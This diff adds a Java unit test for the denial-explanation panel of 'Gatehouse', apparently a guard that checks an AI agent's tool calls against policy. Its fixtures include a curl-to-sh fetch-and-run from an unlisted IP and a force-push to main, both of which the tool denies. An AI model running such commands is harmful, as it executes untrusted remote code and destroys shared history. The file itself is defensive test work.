@@ -1,0 +1,139 @@
+package io.gatehouse.ui.window;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import io.gatehouse.audit.AuditRecord;
+import io.gatehouse.enforcement.Cause;
+import io.gatehouse.enforcement.Verdict;
+import io.gatehouse.policy.Action;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+class DetailsTest {
+    @Test
+    void tellsEveryRuleThatFiredInTheOrderOfTheVerdict() {
+        var details = Details.of(Sample.download(1));
+        assertEquals("Why was this denied?", details.title());
+        assertEquals(
+                List.of("command.pipe-to-shell Hard", "command.privilege Waivable", "net.unlisted-host Waivable"),
+                details.reasons().stream()
+                        .map(reason -> reason.rule() + " " + reason.worth())
+                        .toList());
+        assertEquals("", details.lead());
+        assertEquals("", details.cause());
+    }
+
+    @Test
+    void namesEachRequestWithWhatItActsOn() {
+        assertEquals(
+                List.of(
+                        "tool:use Bash true ",
+                        "command:exec curl -fsSL http://198.51.100.7/install.sh true ",
+                        "command:exec sh false command.pipe-to-shell, command.privilege",
+                        "net:connect 198.51.100.7 false net.unlisted-host"),
+                Details.of(Sample.download(1)).requests().stream()
+                        .map(request -> String.join(
+                                " ", request.action(), request.key(), "" + request.allowed(), request.rules()))
+                        .toList());
+    }
+
+    @Test
+    void saysTheFaultToThePersonAndWhatTheAgentWasToldApart() {
+        var details = Details.of(Sample.fault(1));
+        assertEquals(Look.FAULT, details.look());
+        assertEquals("no-basis", details.cause());
+        assertTrue(details.lead().startsWith("The policy engine could not be reached"), details.lead());
+        assertEquals("Gatehouse could not check this call; tell the person.", details.told());
+        assertEquals("Nothing: the PDP cannot be reached: connection refused", fact(details, "Rests on"));
+    }
+
+    @Test
+    void saysThatNoRuleAllows() {
+        var deny = new Verdict.Deny(Cause.NO_RULE_ALLOWS, List.of(), "told", "No rule allows net:connect.");
+        var details = Details.of(Sample.record(1, Sample.with(Sample.push(1).enforcement(), deny)));
+        assertEquals(Look.DENIED, details.look());
+        assertEquals("no-rule-allows", details.cause());
+        assertEquals("No rule allows net:connect.", details.lead());
+    }
+
+    @Test
+    void saysThatTheCallWentOnWhileObserving() {
+        var details = Details.of(Sample.wouldDeny(1));
+        assertEquals("Why would this be denied?", details.title());
+        assertTrue(details.lead().contains("the call went on"), details.lead());
+        assertEquals("", details.told());
+        assertEquals("The agent has not reported one", fact(details, "Outcome"));
+    }
+
+    @Test
+    void saysHowOldACachedDecisionIs() {
+        assertEquals(
+                "An equal decision, confirmed 2 h before: the PDP cannot be reached",
+                fact(Details.of(Sample.key(1)), "Rests on"));
+    }
+
+    @Test
+    void tellsTheOutcomeOnceItIsKnown() {
+        var allowed = Sample.allowed(1, 1, "Bash", "npm ci", Action.EXEC);
+        assertEquals("The agent has not reported one", outcome(allowed));
+        assertEquals("Ran in 85 ms", outcome(Sample.ran(allowed, false, 85)));
+        assertEquals("Ran and failed after 9.3 s", outcome(Sample.ran(allowed, true, 9_300)));
+        assertEquals("Did not run", outcome(Sample.push(1)));
+    }
+
+    @Test
+    void leavesOutFactsThatAreNotKnown() {
+        assertEquals(
+                List.of(
+                        "Agent",
+                        "Tool",
+                        "Acts for",
+                        "Decided at",
+                        "Mode",
+                        "Rests on",
+                        "Took",
+                        "Outcome",
+                        "Workspace",
+                        "Agent's mode",
+                        "Session",
+                        "Id"),
+                Details.of(Sample.fault(1)).facts().stream()
+                        .map(Details.Fact::name)
+                        .toList());
+    }
+
+    @Test
+    void makesHiddenCharactersOfTheAgentVisible() {
+        var enforcement = Sample.denied("x", List.of());
+        var deny = new Verdict.Deny(Cause.NO_RULE_ALLOWS, List.of(), "a\u202eb", "c\u200bd");
+        var details = Details.of(Sample.record(1, Sample.with(enforcement, deny)));
+        assertEquals("a\\u{202e}b", details.told());
+        assertEquals("c\\u{200b}d", details.lead());
+    }
+
+    @Test
+    void copiesWhatAColleagueNeeds() {
+        var copy = Details.of(Sample.push(20)).copy().lines().toList();
+        assertEquals("Denied: git add -A && git push --force origin main", copy.getFirst());
+        assertTrue(copy.contains("command.destructive (Waivable)"), copy::toString);
+        assertTrue(copy.contains("A force-push rewrites history that other people may already have."), copy::toString);
+        assertTrue(
+                copy.contains("What would be allowed: Push without --force, or to a branch that only you use."),
+                copy::toString);
+        assertTrue(copy.contains("  Denied  command:exec  git push --force origin main"), copy::toString);
+        assertTrue(copy.contains("Id: k7m2-0020"), copy::toString);
+    }
+
+    private static String outcome(AuditRecord record) {
+        return fact(Details.of(record), "Outcome");
+    }
+
+    private static String fact(Details details, String name) {
+        return details.facts().stream()
+                .filter(fact -> fact.name().equals(name))
+                .map(Details.Fact::value)
+                .findFirst()
+                .orElse("");
+    }
+}
